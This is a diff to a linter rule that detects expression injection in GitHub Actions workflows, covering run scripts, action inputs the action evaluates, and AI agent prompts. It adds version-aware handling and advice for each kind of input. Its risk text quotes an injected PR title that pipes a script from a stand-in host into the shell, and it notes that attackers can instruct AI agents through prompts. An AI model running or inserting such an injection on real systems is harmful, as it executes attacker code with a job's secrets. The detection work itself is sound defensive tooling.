@@ -16,7 +16,8 @@ import {
   type TaintScope,
 } from '../../analysis/taint';
 import { describeReach, type Reach } from '../../analysis/triggers';
-import { AI_AGENT_PROMPTS, EXECUTING_INPUTS } from '../../knowledge/untrusted-input';
+import { AI_AGENT_PROMPTS, INPUT_SINKS, type InputSink, type SinkKind } from '../../knowledge/untrusted-input';
+import { inRange, parseVersion } from '../../analysis/supply-chain/versions';
 import { languageOfShell, moveExpressionToEnv, type ScriptLanguage } from '../../fixes/script-env';
 
 export default defineRule({
@@ -24,7 +25,7 @@ export default defineRule({
     id: 'template-injection',
     title: 'Expression injection into a script',
     description:
-      'An attacker-controllable value (a PR title, a branch name, a comment body, an output or env var derived from one...) is expanded by `${{ }}` into a run: script, a github-script, an input an action executes, or an AI agent prompt.',
+      'An attacker-controllable value (a PR title, a branch name, a comment body, an output or env var derived from one...) is expanded by `${{ }}` into a run: script, a github-script, an action input the action evaluates (as code, shell text, command-line arguments or a template), or an AI agent prompt.',
     severity: 'high',
     confidence: 'high',
     category: 'untrusted-input',
@@ -36,7 +37,7 @@ export default defineRule({
     docs: {
       risk: 'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets. The same holds for values that carry such text further: env vars and step or job outputs set from it, inputs of a composite action or reusable workflow, and prompts of AI agents that can run tools. Severity follows who can trigger the workflow: high when any GitHub user can and the job has secrets (pull_request_target, issue_comment, issues, workflow_run...), medium for fork pull requests, reusable workflows and composite actions, low when only maintainers can.',
       remediation:
-        'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"` (bash/sh), `$env:TITLE` (pwsh), `%TITLE%` (cmd), `os.environ["TITLE"]` (python), `process.env.TITLE` (actions/github-script). The quick-fix does that, reusing an existing env entry with the same value; an unquoted expansion stays unquoted so the argument count cannot change (see Fix safety). Numbers, SHAs, ids, booleans and statuses are never reported. AI agent prompts have no mechanical fix: gate the workflow on the author\'s association and keep untrusted text out of the prompt.',
+        'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"` (bash/sh), `$env:TITLE` (pwsh), `%TITLE%` (cmd), `os.environ["TITLE"]` (python), `process.env.TITLE` (actions/github-script), `$env:TITLE` (Amadevus/pwsh-script). The quick-fix does that, reusing an existing env entry with the same value; an unquoted expansion stays unquoted so the argument count cannot change (see Fix safety). Numbers, SHAs, ids, booleans and statuses are never reported. Other evaluated action inputs (ssh-action scripts, sonarqube-scan-action args before 5.3.1, the lycheeVersion of lychee-action before 2.0.2, tibdex/backport templates...; the list with versions and sources is in knowledge/untrusted-input.json) get the advice for their kind and no fix: pass data the way the action documents (its `envs:`, a template variable). AI agent prompts have no mechanical fix: gate the workflow on the author\'s association and keep untrusted text out of the prompt.',
       severity:
         "Inputs of a reusable workflow or composite action take their severity from the callers found in this repository: a caller passing attacker text (e.g. a pull_request_target job passing the PR title) makes the finding as severe as that caller's trigger and names the caller's `with:` line; callers passing only constants, matrix values or trusted contexts give no finding. With no visible caller (a published action, a callee called from elsewhere) the finding is low: it depends on what callers pass. `workflow_dispatch` inputs are low (only people with write access dispatch). Text on `pull_request` is low: a fork's run has a read-only token and no secrets, and its author can change the workflow itself.",
       vulnerableExample:
@@ -62,8 +63,51 @@ export default defineRule({
 
 type Sink =
   | { kind: 'script'; lang?: ScriptLanguage; what: string }
-  | { kind: 'action-input'; what: string }
+  | { kind: 'action-input'; sinkKind: SinkKind; what: string; versionNote?: string }
   | { kind: 'prompt'; what: string };
+
+const SINK_RANK: Record<SinkKind, number> = { code: 4, shell: 3, template: 2, args: 1 };
+
+/**
+ * The sink an action input is, for the version used: the most dangerous entry whose version range holds every version
+ * the ref can name. With a ref that names no version (a SHA, a branch), a ranged entry still counts, flagged uncertain.
+ */
+function inputSink(
+  sinks: readonly InputSink[] | undefined,
+  input: string,
+  ref: string | undefined,
+): { sink: InputSink; uncertain: boolean } | undefined {
+  const version = ref ? parseVersion(ref) : undefined;
+  let best: { sink: InputSink; uncertain: boolean } | undefined;
+  for (const sink of sinks ?? []) {
+    if (sink.input !== input) continue;
+    const range = [sink.since && `>= ${sink.since}`, sink.until && `< ${sink.until}`].filter(Boolean).join(', ');
+    if (range && version && !inRange(version, range)) continue;
+    const candidate = { sink, uncertain: !!range && !version };
+    if (
+      !best ||
+      Number(best.uncertain) - Number(candidate.uncertain) > 0 ||
+      (best.uncertain === candidate.uncertain && SINK_RANK[sink.kind] > SINK_RANK[best.sink.kind])
+    )
+      best = candidate;
+  }
+  return best;
+}
+
+const SINK_WHAT: Record<SinkKind, string> = {
+  code: 'which it runs as code',
+  shell: 'which it runs as a shell script',
+  args: 'which it passes on as command-line arguments',
+  template: 'which it evaluates as a template',
+};
+
+const SINK_ADVICE: Record<SinkKind, string> = {
+  code: 'it becomes code. Pass it as data the code reads (an environment variable, a file) instead.',
+  shell: 'it becomes shell code. Pass it through an environment variable the script reads, quoted, instead.',
+  args: 'it can add options to the command. Keep untrusted text out of the arguments, or validate it first.',
+  template:
+    "template syntax in it runs. Keep the template constant and refer to the pull request's fields through the template's own variables.",
+};
 
 function checkStep(
   step: Step,
@@ -87,26 +131,40 @@ function checkStep(
   }
   const slug = step.uses?.slug;
   if (!slug || !step.with) return;
-  const executing = EXECUTING_INPUTS.get(slug);
+  const sinks = INPUT_SINKS.get(slug);
   const prompts = AI_AGENT_PROMPTS.get(slug);
   for (const entry of step.with.entries) {
     if (!entry.value?.expressions.length) continue;
     const input = entry.name.toLowerCase();
-    if (slug === 'actions/github-script' && input === 'script') {
+    const found = inputSink(sinks, input, step.uses?.ref);
+    if (found?.sink.language) {
+      const lang = found.sink.language;
       checkValue(
         step,
         entry.value,
-        { kind: 'script', lang: 'javascript', what: 'the github-script code' },
+        {
+          kind: 'script',
+          lang,
+          what: slug === 'actions/github-script' ? 'the github-script code' : `${slug}'s ${entry.name} (${lang} code)`,
+        },
         scope,
         reach,
         ctx,
         outerEnv,
       );
-    } else if (executing?.includes(input)) {
+    } else if (found) {
+      const { sink, uncertain } = found;
       checkValue(
         step,
         entry.value,
-        { kind: 'action-input', what: `${slug}'s ${entry.name} input, which it executes` },
+        {
+          kind: 'action-input',
+          sinkKind: sink.kind,
+          what: `${slug}'s ${entry.name} input, ${SINK_WHAT[sink.kind]}`,
+          versionNote: uncertain
+            ? `only in versions ${[sink.since && `from ${sink.since}`, sink.until && `before ${sink.until}`].filter(Boolean).join(' ')}; the ref used names no version`
+            : undefined,
+        },
         scope,
         reach,
         ctx,
@@ -142,10 +200,15 @@ function checkValue(
   const fixes = new Map<string, Fix | undefined>();
   const fixable = sink.kind === 'script' && !!sink.lang && value.expressions.length <= MAX_FIXABLE_EXPRESSIONS;
   for (const expr of value.expressions) {
-    const hits = expressionTaints(expr, scope);
+    // Outputs an action backslash-escapes (tj-actions/changed-files since v41) are inert in a POSIX shell script.
+    const hits = expressionTaints(expr, scope).filter(
+      (h) => !(h.taint.shellEscaped && sink.kind === 'script' && sink.lang === 'posix'),
+    );
     if (hits.length === 0) continue;
     const hit = strongestHit(hits);
-    const { severity, confidence } = rating(hit.taint, reach);
+    const rated = rating(hit.taint, reach);
+    const severity = rated.severity;
+    const confidence = sink.kind === 'action-input' && sink.versionNote ? 'low' : rated.confidence;
     const key = ctx.text.slice(expr.span.start, expr.span.end);
     if (fixable && !fixes.has(key))
       fixes.set(key, fixFor(step, value, expr, hit, (sink as { lang: ScriptLanguage }).lang, ctx.text, outerEnv));
@@ -154,10 +217,12 @@ function checkValue(
       sink.kind === 'prompt'
         ? "an attacker can instruct the agent. Keep untrusted text out of the prompt and gate the workflow on the author's association."
         : sink.kind === 'action-input'
-          ? 'it runs as code. Pass it through an environment variable the command reads instead.'
+          ? `${SINK_ADVICE[sink.sinkKind]}${sink.versionNote ? ` (${sink.versionNote})` : ''}`
           : sink.lang === 'javascript'
             ? 'it becomes JavaScript code. Move it to env: and read process.env.'
-            : 'it becomes shell code. Move it to env: and reference the variable quoted.';
+            : sink.lang === 'pwsh'
+              ? 'it becomes PowerShell code. Move it to env: and read $env:NAME.'
+              : 'it becomes shell code. Move it to env: and reference the variable quoted.';
     ctx.report({
       message: `${describeTaint(hit.taint)} ${sourcePhrase(hit.taint, reach)} and is expanded into ${sink.what}: ${advice} (${reachPhrase(hit.taint, reach)})`,
       span: expr.span,
